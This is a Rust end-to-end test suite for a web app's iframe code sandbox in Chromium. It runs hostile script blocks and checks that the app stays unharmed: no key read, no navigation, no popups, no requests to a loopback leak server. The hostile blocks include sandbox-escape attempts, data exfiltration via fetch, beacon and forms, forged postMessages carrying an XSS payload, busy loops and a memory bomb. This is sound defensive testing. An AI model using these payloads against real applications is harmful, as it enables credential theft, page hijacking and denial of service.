//! The sandbox against hostile code, in Chromium. Each case ends with the app unharmed and
//! responsive, still on its page, its stored key unread and unsent, no popup open, and no
//! request at a second loopback server (another origin) that every attempt aims at.

use std::time::{Duration, Instant};

use crate::sandbox_support::{
    console, console_dump, console_line, fence, get_head, run_block, set_limit, show_answer,
    Answers, LeakServer,
};
use anyhow::{ensure, Context, Result};
use serde_json::json;
use sparkplug_e2e::Harness;

const KEYS: &str = "sparkplug.keys.v1";
const SECRET: &str = "sk-test-SANDBOX-SECRET-4242";

/// The attacks, in answer order (each is one runnable block). `{L}` is the leak origin,
/// `{P}` its port. Cases whose page survives log `case-done <name>` when finished.
fn cases() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        (
            "dom-and-storage",
            "js",
            r#"const tries = {
  'parent.document': () => parent.document.body.innerHTML,
  'top.document': () => top.document.title,
  'top.localStorage': () => top.localStorage.getItem('sparkplug.keys.v1'),
  'top.frames': () => top.frames[0].document.body,
  'document.cookie': () => document.cookie,
  'localStorage': () => localStorage.getItem('sparkplug.keys.v1'),
  'sessionStorage': () => sessionStorage.length,
  'indexedDB': () => indexedDB.open('keys'),
  'caches': () => caches.keys(),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    try { let v = attempt(); if (v && v.then) v = await v; console.log('LEAKED', name, String(v)); }
    catch (e) { console.log('blocked', name, e.name); }
  }
  console.log('case-done dom-and-storage');
})();"#,
        ),
        (
            "top-navigation-script",
            "js",
            r#"const attempts = [
  () => { top.location = '{L}/top-assign?k=1'; },
  () => top.location.replace('{L}/top-replace'),
  () => { parent.location.href = '{L}/parent-href'; },
  () => window.open('{L}/open-top', '_top'),
  () => window.open('{L}/open-parent', '_parent'),
];
for (const attempt of attempts) {
  try { console.log('returned', String(attempt())); } catch (e) { console.log('blocked', e.name); }
}
setTimeout(() => console.log('case-done top-navigation-script'), 400);"#,
        ),
        (
            "top-navigation-links",
            "html",
            r#"<a id="a" href="{L}/link-top" target="_top">top</a>
<a id="b" href="{L}/link-parent" target="_parent">parent</a>
<a id="c" href="{L}/link-blank" target="_blank">blank</a>
<script>
for (const id of ['a', 'b', 'c']) document.getElementById(id).click();
setTimeout(() => console.log('case-done top-navigation-links'), 400);
</script>"#,
        ),
        (
            "meta-refresh",
            "html",
            r#"<!doctype html>
<html><head><meta http-equiv="refresh" content="0;url={L}/meta-refresh?k=1"></head>
<body><p>refreshing</p></body></html>"#,
        ),
        (
            "self-navigation-with-data",
            "js",
            r#"const data = encodeURIComponent(document.documentElement.outerHTML.slice(0, 80));
setTimeout(() => { location.href = '{L}/self?data=' + data; }, 20);
setTimeout(() => { location.replace('{L}/self-replace?data=' + data); }, 40);
setTimeout(() => { window.open('{L}/self-open?data=' + data, '_self'); }, 60);"#,
        ),
        (
            "popups",
            "js",
            r#"const opened = [window.open('{L}/popup'), window.open('about:blank'), window.open('{L}/popup-sized', 'x', 'width=200,height=200')];
console.log('popups null', opened.every(w => w === null));
console.log('case-done popups');"#,
        ),
        (
            "modal-loop",
            "js",
            r#"const t = performance.now();
for (let i = 0; i < 300; i++) { alert('alert ' + i); confirm('confirm?'); prompt('prompt?'); print(); }
console.log('modals returned at once', performance.now() - t < 3000);
console.log('case-done modal-loop');"#,
        ),
        (
            "forms",
            "html",
            r#"<form id="f1" action="{L}/form-self" method="post"><input name="k" value="x"></form>
<form id="f2" action="{L}/form-top" target="_top"><input name="k" value="x"></form>
<form id="f3" action="{L}/form-blank" target="_blank"><input name="k" value="x"></form>
<script>
for (const id of ['f1', 'f2', 'f3']) {
  try { document.getElementById(id).submit(); } catch (e) { console.log('blocked', e.name); }
}
setTimeout(() => console.log('case-done forms'), 400);
</script>"#,
        ),
        (
            "network",
            "html",
            r#"<link rel="prefetch" href="{L}/prefetch">
<link rel="preload" href="{L}/preload" as="fetch">
<link rel="stylesheet" href="{L}/style.css">
<img src="{L}/img.png">
<iframe src="{L}/frame"></iframe>
<script src="{L}/script.js"></script>
<script src="/v1/models?k=own-server"></script>
<script>
fetch('{L}/fetch').then(() => console.log('LEAKED fetch'), e => console.log('blocked fetch', e.name));
const x = new XMLHttpRequest(); x.open('GET', '{L}/xhr'); x.onerror = () => console.log('blocked xhr'); x.send();
try { const ws = new WebSocket('ws://127.0.0.1:{P}/ws'); ws.onerror = () => console.log('blocked ws'); } catch (e) { console.log('blocked ws', e.name); }
try { console.log('beacon queued', navigator.sendBeacon('{L}/beacon', 'k')); } catch (e) { console.log('blocked beacon', e.name); }
try { new EventSource('{L}/sse').onerror = () => console.log('blocked sse'); } catch (e) { console.log('blocked sse', e.name); }
new Image().src = '{L}/img2';
setTimeout(() => console.log('case-done network'), 800);
</script>"#,
        ),
        (
            "python-network",
            "python",
            r#"from js import fetch
try:
    await fetch("{L}/py-fetch")
    print("LEAKED py-fetch")
except Exception as e:
    print("blocked py-fetch", type(e).__name__)
print("case-done python-network")"#,
        ),
        (
            "forged-messages",
            "js",
            r#"const fake = (type, extra) => JSON.stringify(Object.assign({v: 2, type, nonce: '0123456789abcdef0123456789abcdef'}, extra));
top.postMessage(fake('console', {level: 'log', text: 'FORGED-TOP'}), '*');
top.postMessage(fake('done', {elapsed_ms: 1}), '*');
top.postMessage({v: 2, type: 'console', level: 'log', text: 'FORGED-OBJECT'}, '*');
parent.postMessage(fake('console', {level: 'log', text: 'FORGED-STRING-TO-RUNNER'}), '*');
// The runner relays what its page says, under the run's nonce, but only ever as text.
parent.postMessage({sp: 'console', level: 'log', text: '<img src=x onerror="top.document.title=1">FORGED-VIA-RUNNER'}, '*');
setTimeout(() => console.log('case-done forged-messages'), 200);"#,
        ),
        ("busy-loop", "js", "while (true) {}"),
        (
            "memory-bomb",
            "js",
            r#"console.log('allocating');
setTimeout(() => { const keep = []; for (;;) keep.push(new Float64Array(1 << 20).fill(1)); }, 50);"#,
        ),
        ("after", "js", "console.log('still works', 1 + 1);"),
    ]
}

fn answer(leak: &LeakServer) -> (String, Vec<&'static str>) {
    let port = leak
        .origin
        .rsplit(':')
        .next()
        .unwrap_or_default()
        .to_string();
    let mut markdown = String::from("Hostile code, one block per attempt.\n\n");
    let mut names = Vec::new();
    for (name, lang, code) in cases() {
        let code = code.replace("{L}", &leak.origin).replace("{P}", &port);
        markdown.push_str(&format!("Case {name}:\n\n{}", fence(lang, &code)));
        names.push(name);
    }
    (markdown, names)
}

/// Checks the app after a case: still on its page and mounted, its stored key intact and
/// never shown, no popup, nothing at the leak server, and its UI still reacting to a click.
async fn unharmed(h: &Harness, leak: &LeakServer, case: &str) -> Result<()> {
    let url = h.browser.current_url().await?;
    ensure!(
        url.as_str() == format!("{}/", h.base),
        "{case}: the app navigated to {url}"
    );
    ensure!(
        h.browser.windows().await?.len() == 1,
        "{case}: a popup opened"
    );
    let stored = h
        .js(
            "return localStorage.getItem(arguments[0]);",
            vec![json!(KEYS)],
        )
        .await?;
    ensure!(
        stored.as_str().is_some_and(|s| s.contains(SECRET)),
        "{case}: the stored key changed: {stored}"
    );
    let dump = console_dump(h).await?;
    ensure!(
        !dump.contains(SECRET),
        "{case}: the key reached the console:\n{dump}"
    );
    ensure!(
        !dump.contains("LEAKED"),
        "{case}: something got through:\n{dump}"
    );
    let hits = leak.hits();
    ensure!(
        hits.is_empty(),
        "{case}: requests reached the other origin: {hits:?}"
    );
    toggles_settings(h, case).await
}

/// Clicks the Endpoints button twice: the app must answer each click at once.
async fn toggles_settings(h: &Harness, case: &str) -> Result<()> {
    for _ in 0..2 {
        let before = h.attr("open-settings", "aria-expanded").await?;
        h.click("open-settings").await?;
        h.wait_for(
            &format!("{case}: the app to react"),
            Duration::from_secs(2),
            async |h| {
                let now = h.attr("open-settings", "aria-expanded").await?;
                Ok((now != before).then_some(()))
            },
        )
        .await?;
    }
    Ok(())
}

/// How many animation frames the app draws in `window`.
async fn frames_drawn(h: &Harness, window: Duration) -> Result<u64> {
    h.js(
        "window.__frames = 0; (function tick() { window.__frames++; requestAnimationFrame(tick); })();",
        vec![],
    )
    .await?;
    tokio::time::sleep(window).await;
    Ok(h.js("return window.__frames;", vec![])
        .await?
        .as_u64()
        .unwrap_or(0))
}

/// The kill latency the console reports ("A fresh runner was ready in N ms.").
async fn fresh_runner_ms(h: &Harness) -> Result<u64> {
    let line = match console_line(h, "A fresh runner was ready in", Duration::from_secs(10)).await {
        Ok(line) => line,
        Err(e) => anyhow::bail!("{e}; console:\n{}", console_dump(h).await?),
    };
    line.text
        .split_whitespace()
        .find_map(|w| w.parse().ok())
        .context("a number in the fresh-runner line")
}

#[tokio::test]
async fn hostile_code_leaves_the_app_and_its_keys_alone() -> Result<()> {
    let leak = LeakServer::start().await?;
    let answers = Answers::new("escape")?;
    let (markdown, names) = answer(&leak);
    answers.add("hostile", &markdown)?;
    let index = |name: &str| names.iter().position(|n| *n == name).unwrap_or(usize::MAX);
    let h = Harness::start("sandbox_escape", answers.config()).await?;
    h.run(async |h| {
        h.open("/").await?;
        h.js(
            "localStorage.setItem(arguments[0], JSON.stringify({'elsewhere': arguments[1]}));",
            vec![json!(KEYS), json!(SECRET)],
        )
        .await?;
        h.open("/").await?;
        show_answer(h, "hostile").await?;

        for name in [
            "dom-and-storage",
            "top-navigation-script",
            "top-navigation-links",
            "popups",
            "modal-loop",
            "forms",
            "network",
            "python-network",
        ] {
            run_block(h, index(name)).await?;
            console_line(h, &format!("case-done {name}"), Duration::from_secs(60))
                .await
                .with_context(|| name.to_string())?;
            unharmed(h, &leak, name).await?;
            if name == "forms" {
                // Refused before the sandbox sees it: Chromium keeps the process of a frame
                // whose script called form.submit() alive after removal, which would make
                // the busy-loop kill below fail.
                let refused = console(h)
                    .await?
                    .iter()
                    .filter(|l| l.text.starts_with("Blocked form submission"))
                    .count();
                ensure!(refused == 3, "{refused} form submissions refused");
            }
            if name == "network" {
                let lines = console(h).await?;
                let reported = lines.iter().filter(|l| l.text.contains("Blocked by the sandbox"));
                ensure!(reported.count() >= 5, "blocked requests are reported: {lines:?}");
                // Not even the app's own server: a script address could carry data there.
                ensure!(
                    lines.iter().any(|l| l.text.contains("/v1/models?k=own-server")),
                    "a script from the app's own server was not blocked: {lines:?}"
                );
            }
        }

        // Pages that try to navigate themselves away with data in the address.
        for name in ["meta-refresh", "self-navigation-with-data"] {
            run_block(h, index(name)).await?;
            h.wait_for(name, Duration::from_secs(10), async |h| {
                Ok(h.text("run-status").await?.starts_with("Page loaded").then_some(()))
            })
            .await?;
            h.frames(48).await?;
            unharmed(h, &leak, name).await?;
        }

        run_block(h, index("forged-messages")).await?;
        console_line(h, "case-done forged-messages", Duration::from_secs(10)).await?;
        let dump = console_dump(h).await?;
        for forged in ["FORGED-TOP", "FORGED-OBJECT", "FORGED-STRING-TO-RUNNER"] {
            ensure!(!dump.contains(forged), "{forged} was believed:\n{dump}");
        }
        let relayed = console_line(h, "FORGED-VIA-RUNNER", Duration::from_secs(1)).await?;
        ensure!(relayed.text.starts_with("<img src=x"), "shown as text: {relayed:?}");
        let images = h
            .js("return document.querySelectorAll('[data-test=console] img').length;", vec![])
            .await?;
        ensure!(images == json!(0), "markup from the frame was parsed");
        ensure!(
            h.browser.title().await? != "1",
            "the relayed markup ran in the app"
        );
        unharmed(h, &leak, "forged-messages").await?;

        // An endless loop: the app keeps drawing and answering clicks, then kills it when
        // the run passes its time limit (the page never finishes loading).
        set_limit(h, "4").await?;
        run_block(h, index("busy-loop")).await?;
        h.wait_for("the loop to start", Duration::from_secs(10), async |h| {
            Ok((h.text("run-status").await? == "Running…").then_some(()))
        })
        .await?;
        let frames = frames_drawn(h, Duration::from_millis(700)).await?;
        ensure!(frames >= 20, "the app drew only {frames} frames in 0.7 s during the loop");
        toggles_settings(h, "busy-loop").await?;
        ensure!(
            h.text("run-status").await? == "Running…",
            "the checks ran while the loop was still going"
        );
        console_line(h, "time limit of 4 s", Duration::from_secs(10)).await?;
        let loop_kill_ms = fresh_runner_ms(h).await?;
        unharmed(h, &leak, "busy-loop").await?;

        // Stop kills at once, long before a generous limit.
        set_limit(h, "60").await?;
        run_block(h, index("busy-loop")).await?;
        h.wait_for("the loop to start again", Duration::from_secs(10), async |h| {
            Ok((h.text("run-status").await? == "Running…").then_some(()))
        })
        .await?;
        let clicked = Instant::now();
        h.click("run-stop").await?;
        console_line(h, "Stopped.", Duration::from_secs(5)).await?;
        let stop_kill_ms = fresh_runner_ms(h).await?;
        let stop_total_ms = clicked.elapsed().as_millis();
        unharmed(h, &leak, "stop").await?;
        set_limit(h, "2").await?;

        // A stale frame: the killed frame's address, brought back, runs code and reports
        // to the app in proper protocol. None of it may be believed.
        let old_src = h
            .js("return document.querySelector('[data-test=runner]').getAttribute('src');", vec![])
            .await?;
        // The bomb goes off after the page has loaded, so its run is over: the frame is
        // killed for going silent rather than for its time limit.
        run_block(h, index("memory-bomb")).await?;
        console_line(h, "allocating", Duration::from_secs(10)).await?;
        console_line(h, "stopped responding", Duration::from_secs(15)).await?;
        let bomb_kill_ms = fresh_runner_ms(h).await?;
        unharmed(h, &leak, "memory-bomb").await?;
        let runners = h
            .js("return document.querySelectorAll('iframe[sandbox]').length;", vec![])
            .await?;
        ensure!(runners == json!(1), "one fresh runner after the kill, found {runners}");
        h.js(
            "const f = document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.src = arguments[0]; window.__staleLoaded = false; f.onload = () => { window.__staleLoaded = true; }; document.body.appendChild(f); window.__stale = f;",
            vec![old_src],
        )
        .await?;
        h.wait_for("the stale frame to load", Duration::from_secs(10), async |h| {
            let loaded = h.js("return window.__staleLoaded;", vec![]).await?;
            Ok((loaded == json!(true)).then_some(()))
        })
        .await?;
        h.js(
            "window.__stale.contentWindow.postMessage(JSON.stringify({v: 2, type: 'run', nonce: 'stale0000', lang: 'html', code: '<script>console.log(\"STALE-OUTPUT\")<\\/script>', timeout_ms: 1000}), '*');",
            vec![],
        )
        .await?;
        h.frames(48).await?;
        let dump = console_dump(h).await?;
        ensure!(!dump.contains("STALE-OUTPUT"), "a stale frame was believed:\n{dump}");
        let status = h.text("run-status").await?;
        ensure!(
            status.contains("stopped responding"),
            "the stale frame changed the status: {status}"
        );

        run_block(h, index("after")).await?;
        console_line(h, "still works 2", Duration::from_secs(10)).await?;
        unharmed(h, &leak, "after").await?;
        eprintln!(
            "sandbox kill latency (kill to fresh runner ready): busy loop {loop_kill_ms} ms, \
             memory bomb {bomb_kill_ms} ms, Stop {stop_kill_ms} ms ({stop_total_ms} ms from \
             the click until the test saw it)"
        );
        Ok(())
    })
    .await
}

#[tokio::test]
async fn the_runner_page_opened_directly_is_still_sandboxed() -> Result<()> {
    let answers = Answers::new("direct")?;
    let h = Harness::start("sandbox_direct", answers.config()).await?;
    h.run(async |h| {
        let head = get_head(&h.base, "/sandbox/runner.html").await?;
        for part in [
            "content-security-policy: default-src 'none'",
            "'wasm-unsafe-eval'",
            "worker-src data:",
            "sandbox allow-scripts",
        ] {
            ensure!(head.contains(part), "runner header lacks {part:?}:\n{head}");
        }
        let pyodide = get_head(&h.base, "/pyodide/pyodide.mjs").await?;
        ensure!(
            pyodide.contains("access-control-allow-origin: *"),
            "Pyodide is importable from the opaque origin:\n{pyodide}"
        );
        // Pyodide's own demo pages are served sandboxed, never with the app's origin.
        let demo = get_head(&h.base, "/pyodide/console.html").await?;
        ensure!(
            demo.contains("content-security-policy: sandbox"),
            "Pyodide's demo page is not sandboxed:\n{demo}"
        );
        h.open("/").await?;
        h.js(
            "localStorage.setItem(arguments[0], JSON.stringify({'elsewhere': arguments[1]}));",
            vec![json!(KEYS), json!(SECRET)],
        )
        .await?;
        let tab = h.browser.new_window(true).await?;
        h.browser.switch_to_window(tab.handle).await?;
        h.browser
            .goto(&format!("{}/sandbox/runner.html", h.base))
            .await?;
        let seen = h
            .js(
                "const attempt = f => { try { return String(f()); } catch (e) { return e.name; } };
                 return [self.origin, attempt(() => localStorage.getItem(arguments[0])),
                         attempt(() => document.cookie), attempt(() => sessionStorage.length),
                         attempt(() => window.open('about:blank'))];",
                vec![json!(KEYS)],
            )
            .await?;
        ensure!(
            seen == json!([
                "null",
                "SecurityError",
                "SecurityError",
                "SecurityError",
                "null"
            ]),
            "the runner opened directly is not sandboxed: {seen}"
        );
        Ok(())
    })
    .await
}
